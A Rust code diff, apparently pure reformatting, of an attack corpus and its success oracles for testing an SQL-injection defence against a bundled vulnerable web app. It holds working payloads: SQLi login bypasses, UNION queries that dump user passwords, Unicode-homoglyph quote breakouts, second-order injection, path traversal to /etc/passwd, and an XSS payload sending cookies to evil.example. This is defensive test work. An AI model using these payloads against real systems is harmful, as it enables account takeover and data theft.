@@ -41,9 +41,7 @@ pub fn corpus() -> Vec<AttackSpec> {
                         .param("pass", "x"),
                 )]
             },
-            succeeded: |d| {
-                last_login_granted(d, "admin' OR '1'='1", "x")
-            },
+            succeeded: |d| last_login_granted(d, "admin' OR '1'='1", "x"),
         },
         AttackSpec {
             id: "C2",
@@ -51,17 +49,19 @@ pub fn corpus() -> Vec<AttackSpec> {
             class: AttackClass::ClassicSqli,
             description: "ASCII-quote UNION in /search — neutralised by escaping",
             execute: |d| {
-                vec![d.request(&HttpRequest::get("/search").param(
-                    "q",
-                    "%' UNION SELECT username, password FROM users-- ",
-                ))]
+                vec![d.request(
+                    &HttpRequest::get("/search")
+                        .param("q", "%' UNION SELECT username, password FROM users-- "),
+                )]
             },
             succeeded: |d| {
-                let r = d.request(&HttpRequest::get("/search").param(
-                    "q",
-                    "%' UNION SELECT username, password FROM users-- ",
-                ));
-                r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+                let r = d.request(
+                    &HttpRequest::get("/search")
+                        .param("q", "%' UNION SELECT username, password FROM users-- "),
+                );
+                r.response
+                    .body
+                    .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
             },
         },
         AttackSpec {
@@ -114,7 +114,9 @@ pub fn corpus() -> Vec<AttackSpec> {
             execute: |d| vec![d.request(&homoglyph_union_request(false))],
             succeeded: |d| {
                 let r = d.request(&homoglyph_union_request(false));
-                r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+                r.response
+                    .body
+                    .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
             },
         },
         AttackSpec {
@@ -125,7 +127,9 @@ pub fn corpus() -> Vec<AttackSpec> {
             execute: |d| vec![d.request(&homoglyph_union_request(true))],
             succeeded: |d| {
                 let r = d.request(&homoglyph_union_request(true));
-                r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+                r.response
+                    .body
+                    .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
             },
         },
         AttackSpec {
@@ -150,12 +154,19 @@ pub fn corpus() -> Vec<AttackSpec> {
             execute: |d| {
                 vec![d.request(
                     &HttpRequest::post("/login")
-                        .param("user", "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ")
+                        .param(
+                            "user",
+                            "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ",
+                        )
                         .param("pass", "whatever"),
                 )]
             },
             succeeded: |d| {
-                last_login_granted(d, "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ", "whatever")
+                last_login_granted(
+                    d,
+                    "admin\u{02BC} AND \u{02BC}a\u{02BC}=\u{02BC}a\u{02BC}-- ",
+                    "whatever",
+                )
             },
         },
         AttackSpec {
@@ -181,18 +192,26 @@ pub fn corpus() -> Vec<AttackSpec> {
             description: "homoglyph breakout + UNION over information_schema.columns \
                           (the recon step before a targeted exfiltration)",
             execute: |d| {
-                vec![d.request(&HttpRequest::get("/history").param(
-                    "device",
-                    "zz\u{02BC} UNION SELECT table_name, column_name \
+                vec![d.request(
+                    &HttpRequest::get("/history")
+                        .param(
+                            "device",
+                            "zz\u{02BC} UNION SELECT table_name, column_name \
                      FROM information_schema.columns-- ",
-                ).param("days", "0"))]
+                        )
+                        .param("days", "0"),
+                )]
             },
             succeeded: |d| {
-                let r = d.request(&HttpRequest::get("/history").param(
-                    "device",
-                    "zz\u{02BC} UNION SELECT table_name, column_name \
+                let r = d.request(
+                    &HttpRequest::get("/history")
+                        .param(
+                            "device",
+                            "zz\u{02BC} UNION SELECT table_name, column_name \
                      FROM information_schema.columns-- ",
-                ).param("days", "0"));
+                        )
+                        .param("days", "0"),
+                );
                 // The schema leaks: column names of the users table appear.
                 r.response.body.contains("password") && r.response.body.contains("users")
             },
@@ -262,11 +281,12 @@ pub fn corpus() -> Vec<AttackSpec> {
             class: AttackClass::StoredXss,
             description: "payload injected through the note-edit UPDATE path",
             execute: |d| {
-                vec![d.request(
-                    &HttpRequest::post("/notes/edit")
-                        .param("id", "1")
-                        .param("body", "<svg/onload=fetch('//evil.example/'+document.cookie)>"),
-                )]
+                vec![
+                    d.request(&HttpRequest::post("/notes/edit").param("id", "1").param(
+                        "body",
+                        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
+                    )),
+                ]
             },
             succeeded: |d| notes_render_contains(d, "onload"),
         },
@@ -290,8 +310,7 @@ pub fn corpus() -> Vec<AttackSpec> {
             description: "collector pointed at /etc/passwd via traversal",
             execute: |d| {
                 vec![d.request(
-                    &HttpRequest::post("/collectors/add")
-                        .param("url", "../../../../etc/passwd"),
+                    &HttpRequest::post("/collectors/add").param("url", "../../../../etc/passwd"),
                 )]
             },
             succeeded: |d| collectors_contain(d, "etc/passwd"),
@@ -342,7 +361,11 @@ pub fn semantic_mismatch_corpus() -> Vec<AttackSpec> {
 // ---- oracles ---------------------------------------------------------
 
 fn last_login_granted(d: &Deployment, user: &str, pass: &str) -> bool {
-    let r = d.request(&HttpRequest::post("/login").param("user", user).param("pass", pass));
+    let r = d.request(
+        &HttpRequest::post("/login")
+            .param("user", user)
+            .param("pass", pass),
+    );
     r.response.is_success() && r.response.set_session.is_some()
 }
 
@@ -355,9 +378,8 @@ fn collectors_contain(d: &Deployment, marker: &str) -> bool {
     // Ground truth straight from storage (no protection layer involved).
     d.server().with_db(|db| {
         db.table("collectors").is_ok_and(|t| {
-            t.scan().any(|(_, row)| {
-                row.iter().any(|v| v.to_display_string().contains(marker))
-            })
+            t.scan()
+                .any(|(_, row)| row.iter().any(|v| v.to_display_string().contains(marker)))
         })
     })
 }
@@ -368,24 +390,31 @@ fn homoglyph_union_request(version_comments: bool) -> HttpRequest {
     } else {
         "zz\u{02BC} UNION SELECT username, password FROM users-- ".to_string()
     };
-    HttpRequest::get("/history").param("device", payload).param("days", "0")
+    HttpRequest::get("/history")
+        .param("device", payload)
+        .param("days", "0")
 }
 
 fn second_order(d: &Deployment, version_comments: bool) -> Vec<DeploymentResponse> {
-    let marker = if version_comments { "SO-VC" } else { "SO-PLAIN" };
+    let marker = if version_comments {
+        "SO-VC"
+    } else {
+        "SO-PLAIN"
+    };
     let bomb = if version_comments {
         format!("{marker}\u{02BC} /*!UNION*/ /*!SELECT*/ username, password, 1 FROM users-- ")
     } else {
         format!("{marker}\u{02BC} UNION SELECT username, password, 1 FROM users-- ")
     };
     let store = d.request(
-        &HttpRequest::post("/devices/add").param("name", bomb).param("location", "attic"),
+        &HttpRequest::post("/devices/add")
+            .param("name", bomb)
+            .param("location", "attic"),
     );
     // Find the stored bomb's device id (ground truth, straight from disk).
     let id = bomb_device_id(d, marker);
-    let trigger = d.request(
-        &HttpRequest::get("/export").param("device_id", id.unwrap_or(0).to_string()),
-    );
+    let trigger =
+        d.request(&HttpRequest::get("/export").param("device_id", id.unwrap_or(0).to_string()));
     vec![store, trigger]
 }
 
@@ -404,9 +433,13 @@ fn bomb_device_id(d: &Deployment, marker: &str) -> Option<i64> {
 }
 
 fn second_order_leaked(d: &Deployment, marker: &str) -> bool {
-    let Some(id) = bomb_device_id(d, marker) else { return false };
+    let Some(id) = bomb_device_id(d, marker) else {
+        return false;
+    };
     let r = d.request(&HttpRequest::get("/export").param("device_id", id.to_string()));
-    r.response.body.contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
+    r.response
+        .body
+        .contains(septic_webapp::apps::waspmon::ADMIN_PASSWORD)
 }
 
 /// Builds the standard deployment target for the corpus (WaspMon).
@@ -458,7 +491,11 @@ mod tests {
             let _ = (attack.execute)(&d);
             let effect = (attack.succeeded)(&d);
             if attack.class == AttackClass::ClassicSqli {
-                assert!(!effect, "{}: sanitization must stop classic SQLI", attack.id);
+                assert!(
+                    !effect,
+                    "{}: sanitization must stop classic SQLI",
+                    attack.id
+                );
             } else {
                 assert!(effect, "{}: must succeed against the bare app", attack.id);
             }
